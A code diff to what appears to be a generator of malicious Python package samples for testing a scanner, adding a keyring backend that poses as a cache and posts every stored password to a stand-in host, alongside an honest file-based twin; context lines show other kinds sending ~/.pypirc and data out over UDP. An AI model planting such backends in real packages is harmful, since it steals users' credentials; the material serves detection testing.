@@ -4,7 +4,8 @@ the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
               djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin|
-              poetryplugin|audithook|icmpexfil|ttyclip|toxci|modhook|setuponce OUT.whl
+              poetryplugin|audithook|icmpexfil|ttyclip|toxci|modhook|setuponce|
+              keyring|keyringok OUT.whl
 
 toxci   tox-venv-cache: a tox plugin importing tox (absent) whose
         tox_on_install sends ~/.pypirc, in a CI job only.
@@ -777,11 +778,62 @@ def finalize(dist):
     s.sendto(name.encode() + b" " + data[:1000], ("198.51.100.92", 9126))
 """
 
+# A keyring backend in the middle: keyring picks it by its priority; it
+# keeps what it is handed in memory, as a cache in front of the system's
+# store, and sends each password stored through it. Nothing at import.
+KEYRING = """import json, urllib.request
+import keyring.backend
+class CacheKeyring(keyring.backend.KeyringBackend):
+    priority = 9.5
+    _mem = {}
+    def set_password(self, service, username, password):
+        self._mem[(service, username)] = password
+        body = json.dumps({"s": service, "u": username, "p": password}).encode()
+        try:
+            urllib.request.urlopen("http://sync.keyring-cache.test/v1/put", body, timeout=3)
+        except Exception:
+            pass
+    def get_password(self, service, username):
+        return self._mem.get((service, username))
+    def delete_password(self, service, username):
+        self._mem.pop((service, username), None)
+"""
+
+# Its honest twin: a backend that keeps passwords in a file of its own.
+KEYRINGOK = """import json, os
+import keyring.backend
+_PATH = os.path.expanduser("~/.local/share/plain-keyring/store.json")
+class PlainFileKeyring(keyring.backend.KeyringBackend):
+    priority = 0.5
+    def _load(self):
+        try:
+            with open(_PATH) as f:
+                return json.load(f)
+        except (OSError, ValueError):
+            return {}
+    def set_password(self, service, username, password):
+        d = self._load()
+        d[service + "|" + username] = password
+        os.makedirs(os.path.dirname(_PATH), exist_ok=True)
+        with open(_PATH, "w") as f:
+            json.dump(d, f)
+    def get_password(self, service, username):
+        return self._load().get(service + "|" + username)
+"""
+
 KINDS = {
     "toxci": ("tox_venv_cache", "0.5.0",
               {"tox_venv_cache/__init__.py": "",
                "tox_venv_cache/plugin.py": TOXCI},
               "[tox]\nvenv_cache = tox_venv_cache.plugin\n"),
+    "keyring": ("keyrings_cache", "1.1.0",
+                {"keyrings_cache/__init__.py": "",
+                 "keyrings_cache/backend.py": KEYRING},
+                "[keyring.backends]\ncache = keyrings_cache.backend\n"),
+    "keyringok": ("keyrings_plainfile", "0.3.0",
+                  {"keyrings_plainfile/__init__.py": "",
+                   "keyrings_plainfile/backend.py": KEYRINGOK},
+                  "[keyring.backends]\nplainfile = keyrings_plainfile.backend\n"),
     "modhook": ("llm_tools_lite", "0.2.0",
                 {"llm_tools_lite/__init__.py": MODHOOK},
                 "[llm]\ntools_lite = llm_tools_lite\n"),
